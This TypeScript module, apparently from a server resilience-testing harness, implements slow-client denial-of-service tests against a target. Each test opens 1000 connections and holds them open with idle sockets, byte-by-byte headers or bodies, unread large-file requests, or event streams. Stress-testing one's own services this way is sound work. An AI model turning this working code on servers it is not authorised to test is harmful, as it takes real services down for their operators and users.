import { flood } from './flood.ts';
import type { Finding } from './lib/report.ts';
import { closeSockets, delay, openSockets } from './lib/sockets.ts';
import type { Target } from './lib/target.ts';

const CLIENTS = 1000;
const TRICKLE_MS = 500;

/** Clients that hold a connection by doing next to nothing. `media` is the path of a large file. */
export async function slowClients(target: Target, media: string): Promise<Finding[]> {
  const host = `Host: ${target.host}`;
  return [
    await flood(target, 'idle connections', () => hold(target, 'that send nothing', '')),
    await flood(target, 'slow headers', () =>
      hold(target, 'that send a header byte by byte', `GET /track HTTP/1.1\r\n${host}\r\nX-Slow: `, 'a'),
    ),
    await flood(target, 'slow bodies', () =>
      hold(
        target,
        'that send a body byte by byte',
        `POST /plays HTTP/1.1\r\n${host}\r\nContent-Type: application/json\r\nContent-Length: 200\r\n\r\n`,
        ' ',
      ),
    ),
    await flood(target, 'slow readers', () =>
      hold(target, 'that ask for a file and never read', `GET ${media} HTTP/1.1\r\n${host}\r\n\r\n`),
    ),
    await flood(target, 'event streams', () =>
      hold(target, 'that follow the board', `GET /requests/events HTTP/1.1\r\n${host}\r\n\r\n`),
    ),
  ];
}

/** Opens connections, sends `opening` on each, then `trickle` every half second, and never reads. */
async function hold(target: Target, what: string, opening: string, trickle?: string): Promise<string> {
  const sockets = await openSockets(target, CLIENTS);
  for (const socket of sockets) {
    socket.pause();
    if (opening) socket.write(opening);
  }
  for (let waited = 0; waited < target.observedMs; waited += TRICKLE_MS) {
    await delay(TRICKLE_MS);
    if (trickle) for (const socket of sockets) if (!socket.destroyed) socket.write(trickle);
  }
  closeSockets(sockets);
  return `${sockets.length.toLocaleString('en')} clients ${what}`;
}
